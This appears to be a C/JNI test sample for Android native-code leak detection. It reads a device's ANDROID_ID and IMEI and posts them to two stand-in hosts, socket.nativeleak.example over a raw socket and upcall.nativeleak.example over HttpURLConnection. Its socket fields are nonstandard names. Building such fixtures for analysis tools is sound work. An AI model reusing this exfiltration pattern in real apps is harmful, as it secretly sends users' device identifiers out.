/* Reads identifiers through JNI and sends them in two ways. */
#include "jni.h"

static jobject identifier(JNIEnv *env, jobject context) {
    jclass type = JNI(env, GetObjectClass, jclass)(env, context);
    jmethodID get = JNI(env, GetMethodID, jmethodID)(env, type, "getContentResolver", "()Landroid/content/ContentResolver;");
    jobject resolver = JNI(env, CallObjectMethod, jobject)(env, context, get);
    jclass secure = JNI(env, FindClass, jclass)(env, "android/provider/Settings$Secure");
    jmethodID read = JNI(env, GetStaticMethodID, jmethodID)(env, secure, "getString",
                         "(Landroid/content/ContentResolver;Ljava/lang/String;)Ljava/lang/String;");
    jstring name = JNI(env, NewStringUTF, jstring)(env, "android_id");
    return JNI(env, CallStaticObjectMethod, jobject)(env, secure, read, resolver, name);
}

static jobject imei(JNIEnv *env, jobject context) {
    jclass type = JNI(env, GetObjectClass, jclass)(env, context);
    jmethodID get = JNI(env, GetMethodID, jmethodID)(env, type, "getSystemService", "(Ljava/lang/String;)Ljava/lang/Object;");
    jstring name = JNI(env, NewStringUTF, jstring)(env, "phone");
    jobject phone = JNI(env, CallObjectMethod, jobject)(env, context, get, name);
    jclass manager = JNI(env, GetObjectClass, jclass)(env, phone);
    jmethodID read = JNI(env, GetMethodID, jmethodID)(env, manager, "getDeviceId", "()Ljava/lang/String;");
    return JNI(env, CallObjectMethod, jobject)(env, phone, read);
}

static void post_by_socket(const char *host, const char *text) {
    struct addrinfo *found = 0;
    struct addrinfo wanted = {0, 2, 1, 0, 0, 0, 0, 0};
    int error = getaddrinfo(host, "80", &wanted, &found);
    if (error || !found) {
        __android_log_print(5, "leak", "no address of %s: %d", host, error);
        return;
    }
    char request[512];
    int length = snprintf(request, sizeof request,
                          "POST /id HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", host,
                          (int)strlen(text), text);
    int sock = socket(found->family, found->type, found->protocol);
    if (connect(sock, found->address, found->length) == 0) {
        send(sock, request, length, 0);
        char answer[64];
        ssize_t count = recv(sock, answer, sizeof answer, 0);
        __android_log_print(4, "leak", "sent, answer of %d bytes", (int)count);
    }
    close(sock);
    freeaddrinfo(found);
}

static void post_by_java(JNIEnv *env, const char *address, jobject text) {
    jclass url = JNI(env, FindClass, jclass)(env, "java/net/URL");
    jmethodID make = JNI(env, GetMethodID, jmethodID)(env, url, "<init>", "(Ljava/lang/String;)V");
    jobject target = JNI(env, NewObject, jobject)(env, url, make, JNI(env, NewStringUTF, jstring)(env, address));
    jmethodID open = JNI(env, GetMethodID, jmethodID)(env, url, "openConnection", "()Ljava/net/URLConnection;");
    jobject connection = JNI(env, CallObjectMethod, jobject)(env, target, open);
    jclass http = JNI(env, FindClass, jclass)(env, "java/net/HttpURLConnection");
    JNI(env, CallVoidMethod, void)(env, connection, JNI(env, GetMethodID, jmethodID)(env, http, "setDoOutput", "(Z)V"), 1);
    jmethodID get_output = JNI(env, GetMethodID, jmethodID)(env, http, "getOutputStream", "()Ljava/io/OutputStream;");
    jobject output = JNI(env, CallObjectMethod, jobject)(env, connection, get_output);
    jclass string = JNI(env, FindClass, jclass)(env, "java/lang/String");
    jmethodID get_bytes = JNI(env, GetMethodID, jmethodID)(env, string, "getBytes", "()[B");
    jclass stream = JNI(env, FindClass, jclass)(env, "java/io/OutputStream");
    JNI(env, CallVoidMethod, void)(env, output, JNI(env, GetMethodID, jmethodID)(env, stream, "write", "([B)V"),
        JNI(env, CallObjectMethod, jobject)(env, text, get_bytes));
    JNI(env, CallIntMethod, jint)(env, connection, JNI(env, GetMethodID, jmethodID)(env, http, "getResponseCode", "()I"));
}

void Java_org_nativeleak_example_MainActivity_work(JNIEnv *env, jclass type, jobject context) {
    jobject id = identifier(env, context);
    const char *text = JNI(env, GetStringUTFChars, const char *)(env, id, 0);
    post_by_socket("socket.nativeleak.example", text);
    JNI(env, ReleaseStringUTFChars, void)(env, id, text);
    post_by_java(env, "http://upcall.nativeleak.example/imei", imei(env, context));
}
